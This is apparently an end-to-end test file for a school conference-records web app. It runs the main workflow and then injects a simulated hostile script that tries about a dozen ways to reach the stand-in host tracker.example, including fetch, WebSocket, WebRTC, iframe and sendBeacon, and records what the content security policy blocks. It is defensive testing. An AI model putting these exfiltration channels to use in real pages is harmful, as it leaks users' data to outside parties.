import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { PIECE_BYTES } from '../../../src-shared/files/contract.ts';
import type { BinderWindow } from './binder-window.ts';

/** Told after the story, for whoever looks whether anything wanted to leave. */
export interface StoryTold {
  imported: number;
  /** Names of the PDFs that were saved. */
  documents: string[];
  /** What the fields of the entry held after the pastes. */
  pasted: string[];
  /** Requests to any place but the program's own origin, until the page was attacked. */
  foreignRequests: string[];
  /** What the content security policy had to refuse until then. */
  violations: string[];
  /** How each attempt of a hostile script ended. */
  attacks: Record<string, 'refused' | 'came through'>;
  /** Answers that came from any other place, attack and all. */
  foreignResponses: string[];
}

const origin = 'https://binder.invalid';
const host = 'tracker.example';
const markup = `<p>Seen <img src="https://${host}/pixel.png" alt="x"></p>`;
const roster = join(import.meta.dirname, '../../fixtures/roster-maple-street.csv');
const HELD_ON = '2026-11-18';

/**
 * The main job from first run to printed minutes in one window, with remote images pasted on the
 * way; then a hostile script in the page tries every way out.
 */
export async function tellStory(binder: BinderWindow): Promise<StoryTold> {
  const { page, arrange, arrangeJob } = binder;
  const foreignRequests: string[] = [];
  const foreignResponses: string[] = [];
  const isForeign = (url: string) => !url.startsWith(`${origin}/`) && url !== 'about:blank';
  page.context().on('request', (one) => isForeign(one.url()) && foreignRequests.push(one.url()));
  page.context().on('response', (one) => isForeign(one.url()) && foreignResponses.push(one.url()));
  await page.context().grantPermissions(['clipboard-write'], { origin });

  await arrange('vault.create', {
    siteName: 'Maple Street',
    programYear: { start: '2026-08-17', end: '2027-05-28', closedMonths: [] },
    administrator: { name: 'Ana Ruiz', isSiteManager: true },
    passphrase: 'violet harbor lantern quarry meadow',
    language: 'en',
  });
  await page.reload();
  await page.evaluate(watchPolicy);
  const imported = await bringRosterIn(binder);
  const [first] = await arrange('conferences.calendar', {});
  const { id: meetingId } = await arrange('conferences.schedule', {
    ...{ classId: first?.classId ?? '', date: HELD_ON, startsAt: null },
  });
  const { session } = await arrange('vault.status', {});
  await arrange('meetings.setAttendance', {
    ...{ meetingId, personId: session?.personId ?? '' },
    ...{ discipline: 'management', presence: 'present' },
  });
  const { agenda } = await arrange('conferences.open', { meetingId });
  const [{ childId } = { childId: '' }, ...others] = agenda;
  const pasted = await pasteImages(page, `#/conferences/${meetingId}?child=${childId}`);
  await arrange('conferences.saveEntry', {
    ...{ meetingId, childId, outcome: 'support-needed', text: { concerns: markup } },
  });
  const action = { what: markup, service: null, responsibleId: session?.personId ?? '', due: null };
  await arrange('meetings.addAction', { meetingId, childId, action });
  for (const child of others) {
    const input = { meetingId, childId: child.childId, outcome: 'no-concerns', text: {} };
    await arrange('conferences.saveEntry', input);
  }
  const { formIds } = await arrange('meetings.finalize', { meetingId });
  await arrangeJob('exports.conference', { meetingId, language: 'en' });

  const places = [
    'home',
    'notes',
    'import',
    'children',
    `children/${childId}`,
    'families',
    'people',
  ];
  const more = ['audit', 'settings', 'follow-ups', 'missing-signatures', 'conferences', 'me'];
  const records = [`conferences/${meetingId}`, `follow-ups/${formIds[0]}`];
  for (const place of [...places, ...more, ...records]) await turnTo(page, `#/${place}`);

  const violations = await page.evaluate(() => Reflect.get(globalThis, 'violations') as string[]);
  const quiet = { foreignRequests: [...foreignRequests], violations: [...violations] };
  const attacks = await page.evaluate(attack, host);
  return {
    ...{ imported, pasted, ...quiet, attacks, foreignResponses },
    documents: pdfsIn(binder.documents),
  };
}

/** Keeps what the policy refuses, for as long as the page stands. */
function watchPolicy(): void {
  const violations: string[] = [];
  Object.assign(globalThis, { violations });
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
    violations.push(`${violatedDirective} ${blockedURI}`);
  });
}

async function turnTo(page: Page, hash: string): Promise<void> {
  await page.evaluate((to) => {
    window.location.hash = to;
  }, hash);
  await page.locator('main h1').first().waitFor();
  await page.waitForTimeout(100);
}

async function bringRosterIn({ arrange, arrangeJob }: BinderWindow): Promise<number> {
  const content = readFileSync(roster);
  const { fileId } = await arrange('files.begin', {
    ...{ purpose: 'roster', mediaType: 'text/csv', bytes: content.length },
  });
  for (let index = 0; index * PIECE_BYTES < content.length; index += 1) {
    const piece = content.subarray(index * PIECE_BYTES, (index + 1) * PIECE_BYTES);
    await arrange('files.append', { fileId, index, piece: piece.toString('base64') });
  }
  await arrange('files.finish', { fileId });
  const { columns, dateOrder } = await arrange('families.readRoster', { fileId });
  await arrangeJob('families.importRoster', { fileId, columns, dateOrder });
  const everybody = { query: '', classId: null, status: 'all', sort: 'name' } as const;
  const page = { descending: false, offset: 0, limit: 200 };
  return (await arrange('families.children', { ...everybody, ...page })).rows.length;
}

/** Pastes an image as a browser copies it, and its markup as text, into fields of the entry. */
async function pasteImages(page: Page, hash: string): Promise<string[]> {
  await turnTo(page, hash);
  // A field takes no text before the entry has been read.
  const field = (name: string) => page.locator(`textarea[data-focus="${name}"]:not([readonly])`);
  await page.evaluate(async (html) => {
    const item = new ClipboardItem({
      'text/html': new Blob([html], { type: 'text/html' }),
      'text/plain': new Blob([`Seen ${html}`], { type: 'text/plain' }),
    });
    await navigator.clipboard.write([item]);
  }, markup);
  await field('discussion').press('Control+V');
  await field('strengths').focus();
  await page.keyboard.insertText(markup);
  await page.locator('output[data-state="saved"]').first().waitFor();
  return [await field('discussion').inputValue(), await field('strengths').inputValue()];
}

function pdfsIn(folder: string): string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter(
    (name) =>
      name.endsWith('.pdf') && readFileSync(join(folder, name)).subarray(0, 5).equals(pdfHead),
  );
}
const pdfHead = Buffer.from('%PDF-');

/** What a script of somebody else's would try, run in the page; how each try ended. */
async function attack(host: string): Promise<StoryTold['attacks']> {
  const url = (name: string) => `https://${host}/${name}`;
  const loads = (tag: string, attributes: Record<string, string>) =>
    new Promise<void>((resolve, reject) => {
      const element = document.createElement(tag);
      element.onload = () => resolve();
      element.onerror = () => reject(new Error('refused'));
      Object.assign(element, attributes);
      document.body.append(element);
    });
  const opens = (source: EventTarget) =>
    new Promise<void>((resolve, reject) => {
      source.addEventListener('open', () => resolve());
      source.addEventListener('error', () => reject(new Error('refused')));
    });
  const peer = async () => {
    const iceServers = [{ urls: [`stun:${host}:3478`, 'stun:192.0.2.1:3478'] }];
    const connection = new RTCPeerConnection({ iceServers });
    connection.createDataChannel('out');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise<void>((resolve) => {
      connection.onicecandidate = ({ candidate }) => candidate?.type === 'srflx' && resolve();
    });
  };
  const tries: Record<string, () => Promise<unknown>> = {
    image: () => loads('img', { src: url('a.png') }),
    script: () => loads('script', { src: url('a.js') }),
    style: () => loads('link', { rel: 'stylesheet', href: url('a.css') }),
    prefetch: () => loads('link', { rel: 'prefetch', href: url('b.js') }),
    preload: () => loads('link', { rel: 'preload', as: 'image', href: url('b.png') }),
    address: () => loads('img', { src: 'http://192.0.2.1/a.png' }),
    fetch: () => fetch(url('c')),
    socket: () => opens(new WebSocket(`wss://${host}/d`)),
    events: () => opens(new EventSource(url('e'))),
    peer,
  };
  for (const rel of ['dns-prefetch', 'preconnect']) {
    document.head.append(Object.assign(document.createElement('link'), { rel, href: url('') }));
  }
  // These tell the page nothing of their end; whoever watches the process sees it.
  document.body.append(Object.assign(document.createElement('iframe'), { src: url('a.html') }));
  document.body.style.backgroundImage = `url(${url('f.png')})`;
  navigator.sendBeacon(url('g'), 'x');
  const ends = Object.entries(tries).map(async ([name, run]) => {
    const late = new Promise((_, reject) => setTimeout(reject, 1_500));
    const end = await Promise.race([(async () => run())(), late]).then(
      () => 'came through' as const,
      () => 'refused' as const,
    );
    return [name, end] as const;
  });
  return Object.fromEntries(await Promise.all(ends));
}
